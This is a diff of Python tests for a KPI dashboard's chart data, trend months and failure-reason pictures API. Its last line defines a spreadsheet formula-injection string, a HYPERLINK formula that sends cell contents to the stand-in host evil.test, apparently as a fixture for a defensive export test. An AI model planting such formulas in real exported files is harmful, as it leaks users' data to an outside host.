@@ -178,7 +178,7 @@ def test_the_page_and_its_chart_data_show_the_api_numbers(client, auth, month):
     assert (
         "40.0 %" in html and "50.0 %" in html and "75.0 %" in html
     )  # completion, satisfaction/compliance, authenticity
-    data = json.loads(re.search(r'<script type="application/json" id="trend-data">(.*?)</script>', html, re.S).group(1))
+    data = json.loads(re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', html, re.S).group(1))
     november = next(m for m in data["trend"] if m["month"] == "2026-11")
     assert (november["completion_24h_rate"], november["authenticity_rate"]) == (0.4, 0.75)
     drill = client.get(f"/kpis/orders?month=2026-11&kpi=compliance&technician_id={month['tech']}").get_data(
@@ -448,16 +448,52 @@ def test_the_trend_equals_the_monthly_figures_of_the_api(client, auth, month, re
     auth.login("manager")
     html = client.get("/kpis?month=2026-11").get_data(as_text=True)
     trend = json.loads(
-        re.search(r'<script type="application/json" id="trend-data">(.*?)</script>', html, re.S).group(1)
+        re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', html, re.S).group(1)
     )
-    assert [m["month"] for m in trend["trend"]] == kpis.last_months("2026-11", 12)
+    # The picture's months are those of the last 12 with orders (no line over ten empty months).
+    with_orders = [
+        m
+        for m in kpis.last_months("2026-11", 12)
+        if client.get(f"/api/kpis?month={m}&by=all", headers=manager).get_json()["items"][0]["orders"]
+    ]
+    assert [m["month"] for m in trend["trend"]] == with_orders and "2026-05" not in with_orders
     for point in trend["trend"]:
         (api,) = client.get(f"/api/kpis?month={point['month']}&by=all", headers=manager).get_json()["items"]
-        assert {k: point.get(k) for k in api} == api, point["month"]
+        assert {k: api[k] for k in point if k != "month"} == {k: v for k, v in point.items() if k != "month"}
     by_month = {m["month"]: m for m in trend["trend"]}
-    assert by_month["2026-09"]["repeat_rate"] == 0.4 and by_month["2026-09"]["orders"] == 7
-    assert by_month["2026-11"]["completion_24h_rate"] == 0.4 and by_month["2026-10"]["closed"]
-    assert by_month["2026-05"]["orders"] == 0
+    assert by_month["2026-09"]["orders"] == 7 and by_month["2026-11"]["completion_24h_rate"] == 0.4
+    assert "2026-10" in by_month  # closed: from its snapshot
+
+
+def test_the_pictures_show_the_drill_downs_failing_orders_and_the_days_of_the_month(client, auth, month):
+    manager = auth.token("manager")
+    pictures = client.get("/api/kpis/pictures?month=2026-11", headers=manager).get_json()
+    (overall,) = client.get("/api/kpis?month=2026-11&by=all", headers=manager).get_json()["items"]
+    # Day by day: every day of November, the month's orders on their intake day (Xi'an time).
+    assert [d["day"] for d in pictures["daily"]] == [f"2026-11-{n:02d}" for n in range(1, 31)]
+    assert sum(d["orders"] for d in pictures["daily"]) == overall["orders"] == 5
+    (day,) = [d for d in pictures["daily"] if d["orders"]]
+    assert day["day"] == "2026-11-10" and day["completion_24h_rate"] == overall["completion_24h_rate"] == 0.4
+    # Why orders failed: per figure, the drill-down's failing orders counted by reason, worded.
+    for kpi in kpis.KPIS:
+        everything = client.get(f"/api/kpis/orders?month=2026-11&kpi={kpi}", headers=manager).get_json()["items"]
+        failing = client.get(f"/api/kpis/orders?month=2026-11&kpi={kpi}&outcome=failed", headers=manager).get_json()
+        assert [i["order_id"] for i in failing["items"]] == [i["order_id"] for i in everything if i["passed"] is False]
+        counts: dict[str, int] = {}
+        for item in failing["items"]:
+            for code in dict.fromkeys(item["reason_codes"]):
+                counts[code] = counts.get(code, 0) + 1
+        shown = {g["reason"]: g["orders"] for g in pictures["reasons"] if g["kpi"] == kpi}
+        assert shown == counts, kpi
+    assert any(g["kpi"] == "compliance" and g["reason"] == "returned" for g in pictures["reasons"])
+    assert all(g["text"] and g["text"] != g["reason"] for g in pictures["reasons"])
+    # Bad input names its field.
+    bad = client.get("/api/kpis/orders?month=2026-11&kpi=compliance&outcome=lost", headers=manager)
+    assert bad.status_code == 400 and "outcome" in bad.get_json()["detail"]["query"]
+    assert client.get("/api/kpis/pictures?month=2026-13", headers=manager).status_code == 400
+    auth.login("manager")
+    page = client.get("/kpis/orders?month=2026-11&kpi=compliance&outcome=lost")
+    assert page.status_code == 400 and "outcome" in page.get_data(as_text=True)
 
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.test/leak?"&A2,"Click")'
